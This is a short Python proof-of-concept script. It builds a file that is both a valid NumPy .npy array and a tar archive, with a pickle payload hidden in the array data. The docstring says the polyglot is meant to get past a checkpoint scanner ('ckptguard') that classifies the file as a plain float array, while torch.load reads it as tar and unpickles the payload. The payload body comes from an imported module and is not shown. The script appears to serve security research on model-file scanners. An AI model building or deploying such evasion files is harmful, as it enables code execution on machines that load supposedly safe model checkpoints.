#!/usr/bin/python3
"""A valid .npy (float32 array) that is also a tar: the npy header (a comment after the dict)
holds tar header 0's numeric fields as octal digits; the array data (from byte 512) holds tar
header 1 'storages' and the payload pickle. ckptguard sniffs .npy before tar (container.cc
Opener::Open) and calls it a plain float array; torch.load tries tarfile first on any non-zip file.
Usage: tar_in_npy.py OUT MARKER"""
import sys, struct
from tarblocks import header as tar_header, payload
def build(marker):
    pay = payload(marker)
    data = tar_header(b'storages', len(pay)) + pay
    data += b'\0' * ((-len(data)) % 512) + b'\0' * 1024
    n = len(data) // 4
    text = ("{'descr': '<f4', 'fortran_order': False, 'shape': (%d,), }" % n).encode()
    h = bytearray(b'\x93NUMPY\x01\x00' + struct.pack('<H', 502) + text + b' #')
    h += b' ' * (512 - len(h))
    h[511:512] = b'\n'
    for off, f in [(100, b'0000644 '), (108, b'0000000 '), (116, b'0000000 '), (124, b'00000000000 '),
                   (136, b'00000000000 '), (156, b'0'), (329, b'0000000 '), (337, b'0000000 ')]:
        h[off:off + len(f)] = f
    assert h.index(b'#') < 100
    h[148:156] = b' ' * 8
    h[148:156] = b'%06o  ' % sum(h)
    return bytes(h) + data
if __name__ == '__main__':
    open(sys.argv[1], 'wb').write(build(sys.argv[2]))
